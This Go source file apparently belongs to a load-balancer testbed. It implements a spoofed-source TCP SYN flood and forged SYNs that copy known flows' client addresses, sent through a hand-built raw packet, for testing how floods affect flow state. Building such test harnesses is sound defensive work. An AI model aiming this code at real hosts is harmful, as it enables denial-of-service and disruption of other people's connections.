package labrun

import (
	"context"
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"time"

	"golang.org/x/sys/unix"

	"github.com/xlbproject/xlb/testbed/netns"
)

// SYNFlood sends up to n TCP SYNs to target from namespace ns, each from
// a random address of spoof and a random port, as fast as one raw socket
// can, and stops early when timeout passes or ctx ends. It returns how
// many it sent. No handshake follows: every SYN is a new flow, as in an
// attack, and the SYN-ACKs go to addresses that do not answer. Tests use
// it to show what a flood does to a load balancer's flow state.
func SYNFlood(ctx context.Context, ns string, target netip.AddrPort, spoof netip.Prefix, n int, timeout time.Duration) (int, error) {
	if !target.Addr().Is4() || !spoof.Addr().Is4() || spoof.Bits() > 30 {
		return 0, fmt.Errorf("SYN flood to %s from %s: want IPv4, and a prefix of at least 4 addresses", target, spoof)
	}
	fd, err := rawSocket(ns)
	if err != nil {
		return 0, err
	}
	defer unix.Close(fd)

	deadline := time.Now().Add(timeout)
	to := &unix.SockaddrInet4{Addr: target.Addr().As4()}
	base := binary.BigEndian.Uint32(spoof.Masked().Addr().AsSlice())
	hosts := uint32(1)<<(32-spoof.Bits()) - 2 // no network or broadcast address
	pkt := make([]byte, 40)
	sent := 0
	for sent < n {
		if sent%1024 == 0 && (ctx.Err() != nil || time.Now().After(deadline)) {
			break
		}
		src := base + 1 + rand.Uint32N(hosts)
		synPacket(pkt, src, target, uint16(1024+rand.IntN(64511)), rand.Uint32())
		if err := unix.Sendto(fd, pkt, 0, to); err != nil {
			if err == unix.ENOBUFS || err == unix.EAGAIN {
				continue
			}
			return sent, fmt.Errorf("send SYN %d from %s: %w", sent, ns, err)
		}
		sent++
	}
	return sent, nil
}

// ForgeSYNs sends, from namespace ns, n TCP SYNs for each flow of from,
// each with that flow's client address and port as its source and target
// as its destination, and a random sequence number: what an attacker who
// knows a connection's addresses and ports, but not its sequence numbers,
// can send from any network that lets spoofed sources out. It stops early
// when ctx ends, and returns how many it sent.
func ForgeSYNs(ctx context.Context, ns string, target netip.AddrPort, from []netip.AddrPort, n int) (int, error) {
	if !target.Addr().Is4() {
		return 0, fmt.Errorf("forged SYNs to %s: want IPv4", target)
	}
	fd, err := rawSocket(ns)
	if err != nil {
		return 0, err
	}
	defer unix.Close(fd)

	to := &unix.SockaddrInet4{Addr: target.Addr().As4()}
	pkt := make([]byte, 40)
	sent := 0
	for range n {
		for _, f := range from {
			if ctx.Err() != nil {
				return sent, ctx.Err()
			}
			if !f.Addr().Is4() {
				return sent, fmt.Errorf("forged SYN from %s: want IPv4", f)
			}
			a := f.Addr().As4()
			synPacket(pkt, binary.BigEndian.Uint32(a[:]), target, f.Port(), rand.Uint32())
			if err := unix.Sendto(fd, pkt, 0, to); err != nil {
				return sent, fmt.Errorf("send SYN from %s in %s: %w", f, ns, err)
			}
			sent++
		}
	}
	return sent, nil
}

// rawSocket opens a raw IPv4 socket in namespace ns that sends whole
// packets, IP header included (IPPROTO_RAW).
func rawSocket(ns string) (int, error) {
	var fd int
	err := netns.Do(ns, func() error {
		var err error
		fd, err = unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
		return err
	})
	if err != nil {
		return -1, fmt.Errorf("raw socket in %s: %w", ns, err)
	}
	return fd, nil
}

// synPacket writes an IPv4 TCP SYN from src:sport to target into pkt (40
// bytes). The kernel fills in the IP checksum and length of a raw
// IPPROTO_RAW packet; the TCP checksum is ours.
func synPacket(pkt []byte, src uint32, target netip.AddrPort, sport uint16, seq uint32) {
	ip, tcp := pkt[:20], pkt[20:40]
	clear(pkt)
	ip[0] = 0x45
	binary.BigEndian.PutUint16(ip[2:], 40)
	ip[6] = 0x40 // DF
	ip[8] = 64
	ip[9] = unix.IPPROTO_TCP
	binary.BigEndian.PutUint32(ip[12:], src)
	dst := target.Addr().As4()
	copy(ip[16:20], dst[:])
	binary.BigEndian.PutUint16(tcp[0:], sport)
	binary.BigEndian.PutUint16(tcp[2:], target.Port())
	binary.BigEndian.PutUint32(tcp[4:], seq)
	tcp[12] = 5 << 4
	tcp[13] = 0x02 // SYN
	binary.BigEndian.PutUint16(tcp[14:], 64240)
	// Pseudo-header: addresses, protocol, TCP length.
	sum := uint32(0)
	for i := 12; i < 20; i += 2 {
		sum += uint32(binary.BigEndian.Uint16(ip[i:]))
	}
	sum += unix.IPPROTO_TCP + 20
	for i := 0; i < 20; i += 2 {
		sum += uint32(binary.BigEndian.Uint16(tcp[i:]))
	}
	for sum > 0xffff {
		sum = sum&0xffff + sum>>16
	}
	binary.BigEndian.PutUint16(tcp[16:], ^uint16(sum))
}
